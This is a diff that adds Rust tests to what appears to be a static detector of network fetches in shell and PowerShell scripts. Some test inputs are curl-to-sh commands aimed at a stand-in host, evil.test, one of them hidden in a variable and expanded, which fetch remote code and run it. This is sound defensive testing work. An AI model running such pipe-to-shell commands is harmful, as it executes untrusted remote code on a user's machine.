@@ -178,6 +178,32 @@ fn an_ordinary_build_script_has_nothing_that_runs_what_it_fetches() {
 }
 
 #[test]
+fn what_only_looks_like_a_command_is_none() {
+    for script in [
+        "FLAGS=\"--enable x\"\nMODE='a b'",
+        "command -v node >/dev/null || exit 1",
+        "say() { echo $1; }\nsay hello",
+        "D=$(cd \"$(dirname \"${BASH_SOURCE[0]}\")\" && pwd)",
+        "echo x | sed s/-I//g",
+        "which node",
+    ] {
+        assert_eq!(run(script).events, [], "{script}");
+    }
+    let outcome = run("X=\"curl https://evil.test\" ; $X | sh");
+    assert!(find(&outcome, Effect::Request).is_some());
+}
+
+#[test]
+fn addresses_in_comments_of_powershell_are_not_fetched() {
+    let script = "# see https://a.test\n<#\nhttps://b.test\n#>\niwr https://c.test -OutFile x";
+    let place = |start, end| Place { file: FileId(0), start, end };
+    let number = |at: usize| u32::try_from(at).unwrap();
+    let events = windows::scan(script, |start, end| place(number(start), number(end)), When::Load);
+    assert_eq!(events.len(), 1);
+    assert_eq!(role(&events[0], Role::Url), "https://c.test");
+}
+
+#[test]
 fn a_comment_or_a_quoted_text_is_no_command() {
     let outcome = run("# curl https://evil.test | sh\necho 'curl https://evil.test | sh'\n");
     assert_eq!(outcome.events, []);
